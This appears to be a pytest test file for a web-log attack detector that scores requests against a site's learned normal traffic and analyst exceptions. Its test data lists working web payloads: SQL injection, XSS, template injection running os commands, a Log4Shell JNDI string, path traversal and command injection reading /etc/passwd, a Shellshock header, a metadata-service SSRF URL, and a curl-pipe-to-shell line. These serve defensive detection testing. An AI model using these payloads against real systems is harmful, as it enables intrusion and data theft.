"""Verdicts held against the site's own normal and against exceptions, one by one and in batches."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pyarrow as pa
import pytest

from event_tables import NOON, event, events
from logvision.detect import Detector
from logvision.detect.context import Asked, look, look_where_it_tells
from logvision.detect.detector import detect
from logvision.detect.explain import explain
from logvision.detect.profiles import Profiles
from logvision.detect.site import Looks, Site, reconsider
from logvision.exemption import Exemption
from logvision.schema import EVENT

CODE = (
    "foo(bar);", "if (x) { return y[0]; }", "a == b", "x => y", '"exact" AND (more)', '<div class="x">',
    "a * b", "$x->y()", "a | b", "SELECT a FROM b;", "`name`", "a && b", "#include <x.h>", "f(x)[0]",
)  # fmt: skip
SQL = "/item?id=1%20and%201=1"
JUDGED = ("score", "attack", "rules", "outcome")


@pytest.fixture(scope="module")
def profiles() -> Profiles:
    """A site where 200 unrelated visitors search for code, and ask for items by number."""
    made = Profiles()
    made.learn(
        events(
            event(target=target, route=route, client_ip=f"198.51.{n}.7")
            for n in range(200)
            for target, route in (
                (f"/search?q={quote(CODE[n % len(CODE)])}", "/search"),
                (f"/item?id={n}", "/item"),
                ("/people?name=" + ("Ann" if n % 9 else quote("O'Hara (Ann)")), "/people"),
            )
        ),
        (),
    )
    return made


def score(target: str, detector: Detector, profiles: Profiles, **given: Any) -> float:
    route = target.partition("?")[0]
    asked = Asked(target, "shop.example", route, "GET", 200, **given)
    return look([asked], detector, profiles)[0].verdict.score


def test_code_where_visitors_search_for_code_is_ordinary(detector: Detector, profiles: Profiles) -> None:
    target = "/search?q=system(%22ls%22)"
    assert score(target, detector, Profiles()) >= 0.5
    assert score(target, detector, profiles) < 0.5


@pytest.mark.parametrize(
    "text",
    [
        "union all select null",
        "cat /etc/hosts",
        "curl -s https://example.com | sh",
        "__proto__",
        "$_GET[",
        "sleep(",
        "{% for x in y %} summer",
        "../../lib/util.js",
        '<script setup lang="ts">',
        "<?php echo",
        "$_GET['id",
    ],
)
def test_what_people_write_about_is_ordinary_where_they_write_freely(
    text: str, detector: Detector, profiles: Profiles
) -> None:
    target = f"/search?q={quote(text)}"
    assert score(target, detector, profiles) < 0.5
    assert score(f"/item?id={quote(text)}", detector, profiles) >= score(target, detector, Profiles())


@pytest.mark.parametrize(
    "payload",
    [
        "1' or 1=1-- ",
        "1 and sleep(5)",
        "shoes') union select 1,2#",
        "<script>alert(1)</script>",
        "|id",
        "<?php system('id')?>",
        "{{7*7}}",
        "release' AND 2166=8555 AND '216b'='216b",
        '"autofocus onfocus=alert(1) x="',
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "${7*'7'}",
        "<%= 7 * 7 %>",
        "1 union select password from users--",
        ";cat /etc/passwd",
        "${jndi:ldap://203.0.113.9/x}",
        "../../../../etc/passwd",
        '"><script>alert(1)</script>',
        "http://169.254.169.254/latest/meta-data/",
    ],
)
def test_a_proven_attack_is_one_also_where_visitors_search_for_code(
    payload: str, detector: Detector, profiles: Profiles
) -> None:
    assert score(f"/search?q={quote(payload)}", detector, profiles) >= 0.5


def test_a_value_too_long_to_be_read_whole_is_never_called_usual(
    detector: Detector, profiles: Profiles
) -> None:
    padded = quote("foo(bar); " * 2000 + "system('ls')")
    asked = Asked(f"/search?q={padded}", "shop.example", "/search", "GET", 200)
    assert look([asked], detector, profiles)[0].notes == ()


def test_a_quote_where_only_numbers_ever_were_is_surer_an_attack(
    detector: Detector, profiles: Profiles
) -> None:
    assert score("/item?id=1'", detector, profiles) > score("/item?id=1'", detector, Profiles()) >= 0.5


def test_looks_that_are_left_out_would_have_said_nothing(detector: Detector, profiles: Profiles) -> None:
    values = ("1", "1'", "foo(bar);", "shoes", "<script>alert(1)</script>", "../../etc/passwd")
    targets = [
        f"{path}={quote(v)}" for path in ("/item?id", "/item?new", "/search?q", "/x?y") for v in values
    ]
    asked = [Asked(t, "shop.example", t.partition("?")[0], "GET", 200) for t in (*targets, "/.env", "/item")]
    telling, every = look_where_it_tells(asked, detector, profiles), look(asked, detector, profiles)
    left_out = [whole for whole, found in zip(every, telling, strict=True) if found is None]
    assert [f for f in telling if f is not None] == [
        whole for whole, found in zip(every, telling, strict=True) if found is not None
    ]
    assert 0 < len(left_out) < len(asked)
    assert all(whole.notes == () for whole in left_out)


def test_a_departure_alone_is_nothing(detector: Detector, profiles: Profiles) -> None:
    assert score("/item?id=new%20(beta)", detector, profiles) == 0
    assert score("/people?name=D'Arcy", detector, profiles) < 0.5


def test_a_payload_that_one_actor_repeats_teaches_nothing(detector: Detector) -> None:
    made = Profiles()
    rows = [event(target=SQL, route="/item", client_ip="192.0.2.1") for _ in range(2000)]
    made.learn(detect(_unjudged(rows), detector), ())
    assert len(made) == 0
    assert score(SQL, detector, made) >= 0.5


def test_a_payload_from_hundreds_of_networks_teaches_nothing(detector: Detector) -> None:
    made = Profiles()
    rows = [event(target=SQL, route="/item", client_ip=f"198.51.{n}.7") for n in range(250)]
    made.learn(detect(_unjudged(rows), detector), ())
    assert len(made) == 0
    assert score(SQL, detector, made) >= 0.5


def test_harmless_code_from_one_network_prepares_nothing(detector: Detector) -> None:
    made = Profiles()
    rows = [
        event(
            target=f"/search?q={quote(CODE[n % len(CODE)])}", route="/search", client_ip=f"192.0.2.{n % 250}"
        )
        for n in range(3000)
    ]
    made.learn(events(rows), ())
    assert score("/search?q=system(%22ls%22)", detector, made) >= 0.5


def exemption(**scope: Any) -> Exemption:
    return Exemption.made(author="ann", reason="a course", created=NOON - timedelta(days=1), **scope)


def _unjudged(rows: Sequence[Any]) -> pa.Table:
    return events(rows).drop_columns(list(JUDGED))


def judged(rows: Sequence[Any], detector: Detector, site: Site) -> list[tuple[str | None, str | None]]:
    found = reconsider(detect(_unjudged(rows), detector), detector, site)
    assert found.schema == EVENT
    return list(zip(found["attack"].to_pylist(), found["rules"].to_pylist(), strict=True))


@pytest.mark.parametrize(
    "scope",
    [
        {"rule": "verify.*", "route": "/item"},
        {"parameter": "id", "route": "/item"},
        {"shape": "0 a 0=0"},
        {"parameter": "id", "network": "198.51.100.0/24"},
        {"parameter": "id", "site": "shop.example", "expires": NOON + timedelta(days=1)},
    ],
    ids=str,
)
def test_an_excepted_event_is_ordinary_and_names_its_exception(scope: Any, detector: Detector) -> None:
    one = exemption(**scope)
    ((attack, rules),) = judged([event(target=SQL)], detector, Site(Profiles(), (one,)))
    assert attack is None
    assert rules is not None
    assert rules.split()[0] == f"except:{one.id}"


@pytest.mark.parametrize(
    "scope",
    [
        {"rule": "verify.*", "route": "/other"},
        {"parameter": "name"},
        {"shape": "0"},
        {"parameter": "id", "network": "203.0.113.0/24"},
        {"parameter": "id", "site": "blog.example"},
        {"parameter": "id", "expires": NOON},
        {"rule": "xss-*"},
    ],
    ids=str,
)
def test_what_an_exception_does_not_speak_of_stays_as_it_was(scope: Any, detector: Detector) -> None:
    site = Site(Profiles(), (exemption(**scope),))
    ((attack, rules),) = judged([event(target=SQL)], detector, site)
    assert attack == "sqli"
    assert rules is not None
    assert "except:" not in rules


def test_the_other_parameters_of_an_excepted_request_are_still_judged(detector: Detector) -> None:
    site = Site(Profiles(), (exemption(parameter="id"),))
    ((attack, _),) = judged([event(target=SQL + "&q=%3Cscript%3Ealert(1)%3C/script%3E")], detector, site)
    assert attack == "xss"


def test_a_header_is_excepted_by_its_own_name(detector: Detector) -> None:
    hostile = event(target="/", user_agent="() { :;}; /bin/bash -c 'cat /etc/passwd'")
    ((before, _),) = judged([hostile], detector, Site(Profiles(), (exemption(parameter="user_agent"),)))
    ((after, _),) = judged([hostile], detector, Site(Profiles(), (exemption(parameter="{user_agent}"),)))
    assert (before is None, after) == (False, None)


def test_rows_that_nothing_speaks_about_are_the_same_table(detector: Detector, profiles: Profiles) -> None:
    rows = detect(_unjudged([event(target=SQL, site="elsewhere.example"), event()]), detector)
    assert reconsider(rows, detector, Site(profiles)).equals(rows)
    assert reconsider(rows, detector, Site(Profiles())) is rows


def test_of_a_flood_of_distinct_attacks_a_bounded_number_is_looked_at_again_with_exceptions_first(
    detector: Detector, profiles: Profiles
) -> None:
    rows = [
        event(target=f"/{'item' if n % 2 else 'people'}?{'id' if n % 2 else 'name'}=1%20or%20{n}={n}--")
        for n in range(512)
    ]
    flood = detect(_unjudged(rows), detector)
    site = Site(profiles, (exemption(route="/people"),), Looks(credit=100))

    first = silenced(flood, detector, site)
    assert (sum(first), any(first[1::2])) == (102, False)  # 512 rows bring two more
    assert site.looks == Looks(credit=0)
    assert sum(silenced(flood, detector, site)) == 2
    assert all(silenced(flood, detector, replace(site, looks=None))[::2])


def silenced(flood: pa.Table, detector: Detector, site: Site) -> list[bool]:
    found = reconsider(flood, detector, site)["rules"].to_pylist()
    return [(rules or "").startswith("except:") for rules in found]


def test_the_explanation_says_what_the_batch_does(detector: Detector, profiles: Profiles) -> None:
    one = exemption(parameter="id")
    cases = [
        (event(target="/search?q=system(%22ls%22)"), Site(profiles)),
        (event(target="/item?id=1'"), Site(profiles)),
        (event(target=SQL), Site(profiles, (one,))),
        (event(target=SQL), Site(profiles)),
    ]
    for row, site in cases:
        found = explain(row, detector, site)
        ((attack, rules),) = judged([row], detector, site)
        assert (found.attack, " ".join(found.rules) or None) == (attack, rules)
    against, departs, excepted, _ = (explain(row, detector, site) for row, site in cases)
    assert "'q' holds free text of 177 unrelated visitors" in against.verdict
    assert against.context[0]["kind"] == "against"
    assert "'id' holds digits alone for" in departs.verdict
    assert "ann excepted verify.sql here: a course" in excepted.verdict
    assert excepted.score_alone > 0.5 > excepted.score
